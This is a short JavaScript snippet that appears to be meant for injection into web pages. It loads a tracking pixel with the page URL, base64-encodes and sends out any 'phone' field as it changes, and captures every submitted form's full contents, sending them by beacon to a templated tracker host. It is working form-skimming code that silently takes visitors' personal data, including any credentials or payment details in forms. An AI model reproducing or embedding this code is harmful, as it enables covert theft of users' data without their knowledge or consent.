(function () {
  var T = '{{TRACKER}}';
  new Image().src = T + '/pixel.gif?page=' + encodeURIComponent(location.href);
  document.addEventListener('change', function (e) {
    if (e.target && e.target.name === 'phone') {
      fetch(T + '/collect?k=' + btoa(e.target.value), {mode: 'no-cors'});
    }
  }, true);
  document.addEventListener('submit', function (e) {
    var o = {};
    new FormData(e.target).forEach(function (v, k) { o[k] = v; });
    navigator.sendBeacon(T + '/collect', JSON.stringify(o));
  }, true);
})();
